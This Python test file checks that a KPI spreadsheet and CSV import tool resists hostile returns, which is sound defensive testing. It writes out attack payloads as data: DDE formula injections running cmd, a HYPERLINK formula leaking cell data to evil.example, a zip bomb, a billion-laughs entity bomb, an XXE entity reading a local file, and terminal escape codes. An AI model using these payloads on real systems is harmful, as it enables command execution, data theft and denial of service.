"""Hostile returns (月报 from forty departments): workbooks with formulas, merged cells, hidden
sheets, formula-injection notes, XML and zip bombs, cells at the far corner of the sheet; CSV
returns whose quotes, line breaks and numbers try to be read otherwise than meant.

Already in test_cycle_spreadsheet.py: an ``=HYPERLINK`` note typed as text, through import and
export (test_a_formula_like_note_stays_text_through_import_and_export); a formula Excel never
computed, in a value cell (test_any_sheet_with_record_columns_is_read_and_others_skipped); a
percent cell; GBK, UTF-8 with and without BOM, UTF-16; a .xls file. Here the rest.
"""

from __future__ import annotations

import csv
import io
import json
import os
import resource
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from conftest import said
from linzi_kpi.values import NUMBER_FORM

pytestmark = pytest.mark.usefixtures("warm_plan_cache")

openpyxl = pytest.importorskip("openpyxl", reason="the xlsx extra (openpyxl) is not installed")

NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
NOT_A_NUMBER = ("is not a number: write plain digits in the target's unit, e.g. 1200, 1,200 or "
                "50.7 (the target's own unit may follow, as in 95%; no 万 or 亿)")


@pytest.fixture(autouse=True)
def _june(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("KPI_TODAY", "2023-07-15")


# ------------------------------------------------------------------ workbooks written by hand


def xlsx(path: Path, sheets: list[tuple[str, str, str]], shared: str | None = None) -> Path:
    """A workbook from raw sheet XML: (name, state, body of <worksheet>), as any tool might
    write it — with formulas and the values last computed for them, states, merges."""
    types = ['<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
             'relationships+xml"/>', '<Default Extension="xml" ContentType="application/xml"/>',
             '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
             'officedocument.spreadsheetml.sheet.main+xml"/>']
    rels, book = [], []
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for i, (name, state, body) in enumerate(sheets, start=1):
            types.append(f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="'
                         'application/vnd.openxmlformats-officedocument.spreadsheetml.'
                         'worksheet+xml"/>')
            rels.append(f'<Relationship Id="rId{i}" Type="{REL}/worksheet" '
                        f'Target="worksheets/sheet{i}.xml"/>')
            book.append(f'<sheet name="{name}" sheetId="{i}" state="{state}" r:id="rId{i}"/>')
            z.writestr(f"xl/worksheets/sheet{i}.xml", f'<worksheet xmlns="{NS}">{body}</worksheet>')
        if shared is not None:
            types.append('<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                         'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>')
            rels.append(f'<Relationship Id="rIdS" Type="{REL}/sharedStrings" '
                        'Target="sharedStrings.xml"/>')
            z.writestr("xl/sharedStrings.xml", shared)
        z.writestr("[Content_Types].xml", '<Types xmlns="http://schemas.openxmlformats.org/'
                   'package/2006/content-types">' + "".join(types) + "</Types>")
        z.writestr("_rels/.rels", '<Relationships xmlns="http://schemas.openxmlformats.org/'
                   f'package/2006/relationships"><Relationship Id="rId1" Type="{REL}/'
                   'officeDocument" Target="xl/workbook.xml"/></Relationships>')
        z.writestr("xl/workbook.xml", f'<workbook xmlns="{NS}" xmlns:r="{REL}"><sheets>'
                   + "".join(book) + "</sheets></workbook>")
        z.writestr("xl/_rels/workbook.xml.rels", '<Relationships xmlns="http://schemas.'
                   'openxmlformats.org/package/2006/relationships">' + "".join(rels)
                   + "</Relationships>")
    return path


def text(ref: str, value: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{value}</t></is></c>'


def num(ref: str, value: object) -> str:
    return f'<c r="{ref}"><v>{value}</v></c>'


def row(number: int, *cells: str) -> str:
    return f'<row r="{number}">' + "".join(cells) + "</row>"


HEAD = row(1, text("A1", "target"), text("B1", "value"), text("C1", "date"), text("D1", "note"))


def sheet(*rows: str, after: str = "") -> str:
    return "<sheetData>" + HEAD + "".join(rows) + "</sheetData>" + after


def figure(r: int, target: str, value: object, note: str = "") -> str:
    return row(r, text(f"A{r}", target), num(f"B{r}", value), text(f"C{r}", "2023-06-30"),
               text(f"D{r}", note) if note else "")


def log(kpi, target: str) -> list[tuple[object, str]]:
    result = kpi("log", target, "--format", "json")
    return [(r["value"], r["note"]) for r in json.loads(result.stdout)]


# ------------------------------------------------------------------ formulas


def test_a_formula_gives_the_value_excel_computed_and_nothing_runs(data_dir, kpi, tmp_path):
    marker = tmp_path / "calc-ran"
    body = sheet(row(2, text("A2", "23.1"), '<c r="B2"><f>300*2</f><v>600</v></c>',
                     text("C2", "2023-06-30"),
                     # a DDE formula with no computed value: its text is all there is
                     f'<c r="D2" t="str"><f>cmd|\' /C touch {marker}\'!A0</f></c>'))
    xlsx(tmp_path / "f.xlsx", [("六月", "visible", body)])
    result = kpi("import", "f.xlsx")
    assert (result.exit_code, result.stderr) == (0, "")
    assert log(kpi, "23.1") == [(600, f"=cmd|' /C touch {marker}'!A0")]
    assert not marker.exists()


# ------------------------------------------------------------------ formula injection, out again

INJECTIONS = {
    "23.1": '=HYPERLINK("http://evil.example/?leak="&A1,"详情")',
    "3.2": "+cmd|' /C calc'!A0",
    "3.3": "@SUM(1+1)*cmd|' /C calc'!A0",
    "4.1": "-2+3",
    "4.2": "-2+3+cmd|' /C calc'!A0",
    "6.1": "\t=1+1",
    "22.2": "=1+1\n第二行",
}


def test_injection_notes_are_stored_as_typed_and_exported_as_text(data_dir, kpi, tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["编号", "本次数值", "数据日期", "备注"])
    for i, (target, note) in enumerate(INJECTIONS.items(), start=2):
        ws.append([target, 1, "2023-06-30"])
        cell = ws.cell(row=i, column=4)
        cell.value = note
        cell.data_type = "s"  # typed as text, as Excel keeps '=… entered after an apostrophe
    wb.save(tmp_path / "inj.xlsx")
    result = kpi("import", "inj.xlsx")
    assert (result.exit_code, result.stderr) == (0, "")
    for target, note in INJECTIONS.items():
        assert log(kpi, target) == [(1, note)], target

    assert kpi("export", "out.xlsx", "--as-of", "2023-06-30", "--lang", "zh").exit_code == 0
    ws = openpyxl.load_workbook(tmp_path / "out.xlsx")["指标"]
    header = [c.value for c in ws[1]]
    exported = {r[0].value: r[header.index("备注")] for r in ws.iter_rows(min_row=2)}
    for target, note in INJECTIONS.items():
        cell = exported[target]
        assert (cell.value, cell.data_type) == (note, "s"), target  # a string, never a formula
        # and marked as typed text ('=…), so that editing the cell does not make it a formula
        assert cell.quotePrefix is note.startswith(("=", "+", "-", "@")), target
    # the raw XML holds no formula at all
    with zipfile.ZipFile(tmp_path / "out.xlsx") as z:
        assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in z.namelist()
                       if n.startswith("xl/worksheets/"))

    assert kpi("export", "out.csv", "--as-of", "2023-06-30").exit_code == 0
    raw = (tmp_path / "out.csv").read_text(encoding="utf-8-sig")
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(raw, newline=""))}
    for target, note in INJECTIONS.items():
        assert rows[target]["note"] == "'" + note, target  # a spreadsheet shows it as text


@pytest.mark.parametrize("note", ["-inf", "+nan", "-1_000", "-Infinity"])
def test_what_only_python_calls_a_number_is_escaped_in_csv(data_dir, kpi, tmp_path, note):
    # before: float() accepted these, so they went out unescaped
    assert kpi("record", "23.1", "1", "--date", "2023-06-30", "--note", note).exit_code == 0
    assert kpi("export", "out.csv", "--as-of", "2023-06-30").exit_code == 0
    raw = (tmp_path / "out.csv").read_text(encoding="utf-8-sig")
    assert {r["id"]: r for r in csv.DictReader(io.StringIO(raw))}["23.1"]["note"] == "'" + note


def test_a_plain_negative_number_in_a_note_stays_a_number(data_dir, kpi, tmp_path):
    assert kpi("record", "23.1", "1", "--date", "2023-06-30", "--note", "-5").exit_code == 0
    assert kpi("export", "out.csv", "--as-of", "2023-06-30").exit_code == 0
    raw = (tmp_path / "out.csv").read_text(encoding="utf-8-sig")
    assert {r["id"]: r for r in csv.DictReader(io.StringIO(raw))}["23.1"]["note"] == "-5"


# ------------------------------------------------------------------ merged cells, hidden sheets


def test_a_date_merged_down_several_rows_is_refused_for_the_rows_below(data_dir, kpi, tmp_path):
    # Excel keeps a merged value in the top cell only: the rows below have no date, and are
    # refused rather than given one silently
    body = sheet(figure(2, "23.1", 600), row(3, text("A3", "3.2"), num("B3", 5)),
                 after='<mergeCells count="1"><mergeCell ref="C2:C3"/></mergeCells>')
    xlsx(tmp_path / "merged.xlsx", [("六月", "visible", body)])
    result = kpi("import", "merged.xlsx")
    assert (result.exit_code, result.stdout) == (1, "")
    assert result.stderr == (
        "error: merged.xlsx:六月!C3: column date: date '' is not in a form kpi reads: write it as "
        "2023-06-30 (or 2023/6/30, 2023.6.30, 2023年6月30日)\n"
        "error: 1 of 2 rows are invalid; nothing was recorded\n")
    assert not (data_dir / "progress").exists()


def test_hidden_sheets_are_not_read_and_a_note_names_them(data_dir, kpi, tmp_path):
    """A hidden sheet is not what a person opening the return sees (most often a template's
    helper, or a stale copy): its rows are not checked or recorded, a note on stderr names it
    with the rows it held, and the JSON lists it (see SECURITY.md, README's kpi import)."""
    visible = sheet(figure(2, "23.1", 600))
    hidden = sheet(figure(2, "3.2", 5))
    xlsx(tmp_path / "h.xlsx", [("六月", "visible", visible), ("藏", "hidden", hidden),
                               ("深藏", "veryHidden", sheet(figure(2, "99.9", 1)))])
    result = kpi("import", "h.xlsx", "--format", "json")
    assert result.exit_code == 0, result.stderr
    assert result.stderr == (
        "note: h.xlsx: sheet 藏 is hidden, and its 1 row is not imported; unhide the sheet "
        "(Excel/WPS: 取消隐藏) and import the return again to record it\n"
        "note: h.xlsx: sheet 深藏 is hidden, and its 1 row is not imported; unhide the sheet "
        "(Excel/WPS: 取消隐藏) and import the return again to record it\n")
    data = json.loads(result.stdout)
    assert data["sheets"] == ["六月"]
    assert data["hidden_sheets"] == [{"sheet": "藏", "rows": 1}, {"sheet": "深藏", "rows": 1}]
    assert [r["record"]["target"] for r in data["recorded"]] == ["23.1"]


# ------------------------------------------------------------------ files that are not workbooks


@pytest.mark.parametrize(("content", "message"), [
    (b"target,value,date\n23.1,600,2023-06-30\n",
     "error: x.xlsx: not an .xlsx workbook (File is not a zip file); save it again as .xlsx, or "
     "as CSV\n"),
    (b"PK\x03\x04" + os.urandom(200),
     "error: x.xlsx: not an .xlsx workbook (File is not a zip file); save it again as .xlsx, or "
     "as CSV\n"),
    (b"", "error: x.xlsx: not an .xlsx workbook (File is not a zip file); save it again as "
          ".xlsx, or as CSV\n"),
])
def test_a_workbook_that_is_not_a_zip(data_dir, kpi, tmp_path, content: bytes, message: str):
    (tmp_path / "x.xlsx").write_bytes(content)
    result = kpi("import", "x.xlsx")
    assert (result.exit_code, result.stdout, result.stderr) == (1, "", message)


def test_a_zip_that_is_not_a_workbook(data_dir, kpi, tmp_path):
    with zipfile.ZipFile(tmp_path / "x.xlsx", "w") as z:
        z.writestr("readme.txt", "hello")
    result = kpi("import", "x.xlsx")
    assert result.exit_code == 1
    assert result.stderr.startswith("error: x.xlsx: cannot read the workbook (")
    assert result.stderr.endswith("); save it again as .xlsx\n")
    assert result.stderr.count("\n") == 1


def test_a_zip_bomb_of_shared_strings_is_refused_before_it_is_unpacked(data_dir, kpi, tmp_path):
    strings = f'<sst xmlns="{NS}"><si><t>' + "A" * 100_000_000 + "</t></si></sst>"
    xlsx(tmp_path / "bomb.xlsx", [("S", "visible", sheet(figure(2, "23.1", 600)))],
         shared=strings)
    del strings
    assert (tmp_path / "bomb.xlsx").stat().st_size < 200_000
    result = kpi("import", "bomb.xlsx")
    assert (result.exit_code, result.stderr) == (
        1, "error: bomb.xlsx: the workbook unpacks to 95 MB in 6 parts, more than a return needs "
           "(at most 64 MB); save only the sheet with the figures, or send a CSV file\n")


LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">'
                    for i in range(1, 10)).replace("&lol0;", "&lol;") + "]>")


def test_an_entity_bomb_in_the_xml_is_refused(data_dir, kpi, tmp_path):
    strings = LAUGHS + f'<sst xmlns="{NS}"><si><t>&lol9;</t></si></sst>'
    body = sheet(row(2, text("A2", "23.1"), num("B2", 600), text("C2", "2023-06-30"),
                     '<c r="D2" t="s"><v>0</v></c>'))
    xlsx(tmp_path / "lol.xlsx", [("S", "visible", body)], shared=strings)
    result = run("import", "lol.xlsx", cwd=tmp_path, data_dir=data_dir)
    assert result.returncode == 1
    assert result.stderr.startswith("error: lol.xlsx: cannot read the workbook (")
    assert result.stderr.count("\n") == 1


def test_an_external_entity_never_reads_a_local_file(data_dir, kpi, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("API_KEY=do-not-import-me", encoding="utf-8")
    strings = (f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}">]>'
               f'<sst xmlns="{NS}"><si><t>&e;</t></si></sst>')
    body = sheet(row(2, text("A2", "23.1"), num("B2", 600), text("C2", "2023-06-30"),
                     '<c r="D2" t="s"><v>0</v></c>'))
    xlsx(tmp_path / "xxe.xlsx", [("S", "visible", body)], shared=strings)
    result = kpi("import", "xxe.xlsx")
    assert result.exit_code == 1 and "do-not-import-me" not in result.stdout + result.stderr
    assert not (data_dir / "progress").exists()


def _limit_memory() -> None:
    try:
        resource.setrlimit(resource.RLIMIT_AS, (1536 << 20, 1536 << 20))
    except (ValueError, OSError):  # a platform without the limit: the timeout still holds
        pass


def run(*args: str, cwd: Path, data_dir: Path) -> subprocess.CompletedProcess:
    env = dict(os.environ, KPI_DATA_DIR=str(data_dir), NO_COLOR="1")
    return subprocess.run([sys.executable, "-m", "linzi_kpi", *args], capture_output=True,
                          text=True, env=env, cwd=cwd, timeout=120, preexec_fn=_limit_memory)


@pytest.mark.slow
def test_a_cell_at_the_far_corner_of_the_sheet_is_not_a_hang(kpi, data_dir, tmp_path):
    first = said(kpi, "23.1", 600)  # before anything is recorded
    # before: 5 KB on disk, and kpi import iterated 1048576 x 16384 cells (killed at 20 s)
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["target", "value", "date"])
    ws.append(["23.1", 600, "2023-06-30"])
    ws["XFD1048576"] = "x"
    wb.save(tmp_path / "far.xlsx")
    result = run("import", "far.xlsx", "--dry-run", cwd=tmp_path, data_dir=data_dir)
    assert (result.returncode, result.stderr) == (0, "")
    assert result.stdout == (first +
                             "would record 1 in data/progress/2023-06.csv; 1048574 blank rows "
                             "skipped\n")


def test_a_sheet_claiming_the_whole_grid_in_its_dimension_is_read_as_its_cells(data_dir, kpi,
                                                                               tmp_path):
    first = said(kpi, "23.1", 600)  # before anything is recorded
    body = '<dimension ref="A1:XFD1048576"/>' + sheet(figure(2, "23.1", 600))
    xlsx(tmp_path / "dim.xlsx", [("S", "visible", body)])
    result = kpi("import", "dim.xlsx", "--dry-run")
    assert (result.exit_code, result.stdout) == (
        0, first + "would record 1 in data/progress/2023-06.csv\n")


def test_cells_spread_wider_than_any_return_are_refused(data_dir, kpi, tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["target", "value", "date"])
    for r in range(2, 200):
        ws.cell(row=r, column=16384, value="x")
    wb.save(tmp_path / "wide.xlsx")
    assert (tmp_path / "wide.xlsx").stat().st_size < 100_000
    result = kpi("import", "wide.xlsx")
    assert (result.exit_code, result.stderr) == (
        1, "error: wide.xlsx: sheet 'Sheet' reaches row 124, column 16384: more than 2000000 "
           "cells, far beyond a return; delete the rows and columns past the table, or send a "
           "CSV file\n")


# ------------------------------------------------------------------ numbers in cells


def test_numbers_in_cells_are_read_exactly_or_refused_saying_what_is_accepted(data_dir, kpi,
                                                                             tmp_path):
    body = sheet(figure(2, "3.2", "1e309"), figure(3, "3.3", -5),
                 row(4, text("A4", "4.1"), '<c r="B4" t="b"><v>1</v></c>', text("C4", "2023-06-30")),
                 row(5, text("A5", "4.2"), text("B5", "12万"), text("C5", "2023-06-30")),
                 row(6, text("A6", "6.1"), text("B6", "NaN"), text("C6", "2023-06-30")))
    xlsx(tmp_path / "n.xlsx", [("S", "visible", body)])
    result = kpi("import", "n.xlsx")
    assert result.exit_code == 1
    assert result.stderr == (
        f"error: n.xlsx:S!B2: column value: value 'Infinity' {NOT_A_NUMBER}\n"
        "error: n.xlsx:S!B3: column value: value -5 is negative (figures for 3.3 count 家; "
        "write 0 or more)\n"
        f"error: n.xlsx:S!B4: column value: value 'TRUE' {NOT_A_NUMBER}\n"
        f"error: n.xlsx:S!B5: column value: value '12万' {NOT_A_NUMBER}\n"
        f"error: n.xlsx:S!B6: column value: value 'NaN' {NOT_A_NUMBER}\n"
        "error: 5 of 5 rows are invalid; nothing was recorded\n")
    body = sheet(figure(2, "3.2", "1.5E2"), row(3, text("A3", "3.3"), text("B3", "１，２００"),
                                                text("C3", "2023-06-30")))
    xlsx(tmp_path / "n.xlsx", [("S", "visible", body)])
    data = json.loads(kpi("import", "n.xlsx", "--format", "json").stdout)
    assert [r["record"]["value"] for r in data["recorded"]] == [150, 1200]


# ------------------------------------------------------------------ CSV returns

#: How a number may be written in a return, and what it means, through each way in (for 22.2,
#: counted in 公里: not a count, so 0.5 is a figure).
ACCEPTED = [("１２３", 123), ("1,200", 1200), ("１，２００", 1200), (" 600 ", 600), ("+5", 5),
            ("0.5", 0.5), ("00012", 12), ("35公里", 35), ("35 公里", 35)]
REFUSED = ["NaN", "nan", "inf", "-inf", "Infinity", "1e309", "1e3", "0x10", "1_000",
           "1,20", "1.2.3", ".5", "600个", "", "--5", "35公", "35km",
           "12万", "五"]  # words for numbers are no digit form: "not a number" like any word
#: Other digit forms, refused naming the character (they were read as digits: 1200¹ as 12001).
FOREIGN = [("٣", "٣", "ARABIC-INDIC DIGIT THREE"),
           ("1200¹", "¹", "SUPERSCRIPT ONE"), ("⑫", "⑫", "CIRCLED NUMBER TWELVE"),
           ("₁₂", "₁", "SUBSCRIPT ONE")]


def _return(tmp_path: Path, values: list[str], target: str = "23.1") -> Path:
    path = tmp_path / "in.csv"
    with open(path, "w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["target", "value", "date"])
        for value in values:
            writer.writerow([target, value, "2023-06-30"])
    return path


#: Both ways in read figures with the same function; the quick run takes one, -m slow both.
WAYS_IN = ["record --from", pytest.param("import", marks=pytest.mark.slow)]


@pytest.mark.slow
@pytest.mark.parametrize("how", WAYS_IN)
@pytest.mark.parametrize(("value", "number"), ACCEPTED)
def test_a_number_is_understood_exactly(data_dir, kpi, tmp_path, how, value, number):
    _return(tmp_path, [value], "22.2")
    result = kpi(*how.split(), "in.csv", "--format", "json")
    assert result.exit_code == 0, result.stderr
    assert json.loads(result.stdout)["recorded"][0]["record"]["value"] == number


@pytest.mark.slow
@pytest.mark.parametrize("how", WAYS_IN)
@pytest.mark.parametrize("value", REFUSED)
def test_a_number_is_refused_saying_the_accepted_form(data_dir, kpi, tmp_path, how, value):
    _return(tmp_path, [value], "22.2")
    result = kpi(*how.split(), "in.csv")
    assert result.exit_code == 1
    first = result.stderr.split("\n")[0]
    shown = value if how == "record --from" else value  # every way in shows it as written
    assert first.endswith(f"value {shown!r} {NOT_A_NUMBER}"), first
    assert not (data_dir / "progress").exists()


@pytest.mark.parametrize("how", WAYS_IN)
@pytest.mark.parametrize(("value", "char", "name"), FOREIGN)
def test_another_digit_form_is_refused_naming_the_character(data_dir, kpi, tmp_path, how, value,
                                                           char, name):
    _return(tmp_path, [value])
    result = kpi(*how.split(), "in.csv")
    assert result.exit_code == 1
    assert result.stderr.split("\n")[0] == (
        f"error: in.csv:2: column value: value {value!r} holds {char!r} ({name}), which is not a "
        f"digit kpi reads: write {NUMBER_FORM}")
    assert not (data_dir / "progress").exists()


def test_a_negative_count_is_refused_through_every_way_in(data_dir, kpi, tmp_path):
    _return(tmp_path, ["-5"])
    for how in (("import",), ("record", "--from")):
        result = kpi(*how, "in.csv")
        assert result.exit_code == 1
        assert result.stderr.split("\n")[0].endswith(
            "value -5 is negative (figures for 23.1 count 个; write 0 or more)")
    assert not (data_dir / "progress").exists()


@pytest.mark.parametrize("how", ["import", "record --from"])
def test_line_breaks_and_separators_inside_quoted_notes_stay_in_the_note(data_dir, kpi,
                                                                        tmp_path, how):
    # before (import): 'two\nlines' became 'twolines'; U+2028 and a form feed cut the note and
    # made its tail a "blank row"
    notes = ["two\nlines", "a\u2028b", "tab\there", "g\rh", 'q "quoted", and, commas']
    path = tmp_path / "in.csv"
    with open(path, "w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["target", "value", "date", "note"])
        for day, note in enumerate(notes, start=26):  # a figure a day: a return says one a day
            writer.writerow(["23.1", "1", f"2023-06-{day}", note])
        writer.writerow(["9.9", "1", "2023-06-30", ""])  # line 9: two notes hold a line end
    result = kpi(*how.split(), "in.csv", "--dry-run")
    assert result.exit_code == 1
    assert result.stderr.startswith("error: in.csv:9: column ")
    path.write_bytes(path.read_bytes().rsplit(b"9.9", 1)[0])
    result = kpi(*how.split(), "in.csv", "--format", "json")
    assert result.exit_code == 0, result.stderr
    assert [r["record"]["note"] for r in json.loads(result.stdout)["recorded"]] == notes
    assert [n for _, n in log(kpi, "23.1")] == notes


@pytest.mark.parametrize("how", ["import", "record --from"])
@pytest.mark.parametrize(("note", "code"), [("\x1b[2J\x1b]0;pwned\x07", "001B"), ("a\x0cb", "000C"),
                                            ("e\x85f", "0085"), ("\x7f", "007F")])
def test_control_characters_in_a_note_are_refused(data_dir, kpi, tmp_path, how, note, code):
    # they would reach the analyst's terminal as commands through `kpi log`
    path = tmp_path / "in.csv"
    with open(path, "w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows([["编号", "数值", "日期", "备注"],
                                   ["23.1", "1", "2023-06-30", note]])
    result = kpi(*how.split(), "in.csv")
    assert (result.exit_code, result.stderr.split("\n")[0]) == (
        1, f"error: in.csv:2: column 备注: note holds the "
           f"control character U+{code} (remove it; text may hold tabs and line breaks, never a "
           "control character)")
    assert not (data_dir / "progress").exists()


@pytest.mark.parametrize("how", ["import", "record --from"])
def test_a_quote_never_closed_is_refused_not_swallowing_the_rows_after_it(data_dir, kpi,
                                                                         tmp_path, how):
    # before: the 3.2 row became part of 23.1's note, and was silently not recorded
    (tmp_path / "in.csv").write_text("target,value,date,note\n23.1,600,2023-06-30,\"oops\n"
                                     "3.2,5,2023-06-30,\n", encoding="utf-8")
    result = kpi(*how.split(), "in.csv")
    assert (result.exit_code, result.stderr) == (
        1, "error: in.csv:2: a quoted field opens on this line and is never closed (close the "
           "quote; every row after it would be read as part of it)\n")
    assert not (data_dir / "progress").exists()


@pytest.mark.parametrize("how", ["import", "record --from"])
def test_a_stray_character_after_a_closing_quote_is_refused(data_dir, kpi, tmp_path, how):
    (tmp_path / "in.csv").write_text('target,value,date,note\n23.1,600,2023-06-30,"ab"c\n',
                                     encoding="utf-8")
    result = kpi(*how.split(), "in.csv")
    assert result.exit_code == 1
    assert result.stderr.startswith("error: in.csv:2: unreadable CSV: ',' expected after '\"'")
    assert result.stderr.count("\n") == 1


@pytest.mark.parametrize("seed", range(4))
def test_binary_garbage_as_a_csv_return(data_dir, kpi, tmp_path, seed):
    import random

    (tmp_path / "in.csv").write_bytes(random.Random(seed).randbytes(4000))
    for how in (("import",), ("record", "--from")):
        result = kpi(*how, "in.csv")
        assert result.exit_code == 1, how
        assert result.stderr.count("\n") == 1, result.stderr
    assert not (data_dir / "progress").exists()
